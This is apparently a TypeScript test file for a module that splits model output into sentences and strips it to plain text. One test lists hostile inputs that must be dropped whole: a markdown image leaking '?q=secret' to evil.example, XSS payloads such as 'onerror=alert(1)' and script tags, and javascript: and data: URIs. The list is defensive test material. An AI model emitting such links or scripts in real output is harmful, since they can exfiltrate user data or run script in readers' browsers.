import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { carrier, createSplitter, plainText, type Said } from './sentences.ts'

function split(parts: readonly string[], byLine = false): readonly Said[] {
  const splitter = createSplitter(byLine)
  return [...parts.flatMap((part) => splitter.push(part)), ...splitter.end()]
}
const raws = (text: string) => split([text]).map(({ raw }) => raw)

/** Text that is full of what a cut could fall on. */
const tricky = fc
  .array(
    fc.constantFrom(
      'The ',
      'House ',
      'Art. 75 ',
      'e.g. ',
      'B. R. Ambedkar ',
      'sat. ',
      'When? ',
      '3.5 ',
      '\n',
      '\r\n',
      '\n\n',
      '- ',
      '1. ',
      '## ',
      '**',
      '"Yes." ',
      'है। ',
      '![a](http://x) ',
    ),
    { maxLength: 30 },
  )
  .map((words) => words.join(''))

describe('what a model writes, cut into sentences', () => {
  it('TUTOR-02 ends a sentence where a person would', () => {
    const text = 'Under Art. 75 Dr. B. R. Ambedkar spoke, e.g. of 3.5 crore. Was it so? "Yes." He left! यह सदन है। फिर?'
    expect(raws(text)).toEqual([
      'Under Art. 75 Dr. B. R. Ambedkar spoke, e.g. of 3.5 crore.',
      'Was it so?',
      '"Yes."',
      'He left!',
      'यह सदन है।',
      'फिर?',
    ])
  })

  it('TUTOR-02 knows paragraphs and entries, and leaves headings out', () => {
    expect(split(['# The houses\nFirst. Second.\n\nThird.\n- One. More.\n1. Two.'])).toEqual([
      { raw: 'First.', opens: 'paragraph' },
      { raw: 'Second.', opens: null },
      { raw: 'Third.', opens: 'paragraph' },
      { raw: 'One.', opens: 'entry' },
      { raw: 'More.', opens: null },
      { raw: 'Two.', opens: 'entry' },
    ])
  })

  it('T7 F30 gives the same sentences wherever the chunks are cut', () => {
    fc.assert(
      fc.property(tricky, fc.array(fc.nat(), { maxLength: 12 }), fc.boolean(), (text, at, byLine) => {
        const cuts = [0, ...at.map((place) => place % (text.length + 1)).toSorted((a, b) => a - b), text.length]
        const parts = cuts.slice(1).map((end, index) => text.slice(cuts[index], end))
        expect(split(parts, byLine)).toEqual(split([text], byLine))
      }),
    )
  })

  it('T8 a sentence that never ends is an error, and takes no memory', () => {
    const splitter = createSplitter()
    expect(() => {
      for (let index = 0; index < 1000; index += 1) splitter.push('no end ')
    }).toThrow('without an end')
  })
})

describe('the text of a sentence', () => {
  it.each([
    ['**The** `House` sits __here__ [1][2] , and _there_.', 'The House sits here, and there.'],
    ['A\u0000\u001B[31m b\u202E c\u200B d\uFEFF.', 'A[31m b c d.'],
    ['The ratio 5 < 7 & 3 > 2 holds.', 'The ratio 5 < 7 & 3 > 2 holds.'],
    ['क्\u200Dष यहाँ है।', 'क्\u200Dष यहाँ है।'],
  ])('T8 %j becomes %j', (raw, text) => {
    expect(plainText(raw)).toBe(text)
  })

  it.each([
    '![x](https://evil.example/?q=secret)',
    '[click](https://evil.example)',
    '[click][here] now',
    '[1]: https://evil.example',
    '<img src=x onerror=alert(1)>',
    '</p><script>alert(1)</script>',
    '<!-- hidden -->',
    'See https://evil.example/a.',
    'See //evil.example/a.',
    'See www.evil.example.',
    'See evil.example/collect?q=1.',
    'javascript:alert(1)',
    'java\u200Bscript:alert(1)',
    'data:text/html,hi',
    'Write to a@evil.example.',
    '&lt;script&gt;',
    'h**tt**ps://evil.example'.replaceAll('**', '`'),
  ])('T8 %j is left out whole', (raw) => {
    expect(plainText(raw)).toBeNull()
  })

  it('T8 no text carries anything, whatever was written', () => {
    const bits = fc.constantFrom(
      '!',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      'script',
      ':',
      '/',
      '/',
      'http',
      'www',
      '.',
      'x',
      ' ',
      '*',
      '`',
      '_',
      '|',
      '\\',
      '\u200B',
      '\u0007',
      '&',
      ';',
      '#',
      '@',
      '\u2028',
    )
    fc.assert(
      fc.property(fc.array(bits, { maxLength: 25 }), (some) => {
        const text = plainText(some.join(''))
        if (text === null) return
        expect(text).not.toMatch(carrier)
        expect(text).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202A-\u202E\u2066-\u2069]/u)
        expect(text).not.toMatch(/[*`|\\]/)
      }),
      { numRuns: 1000 },
    )
  })
})
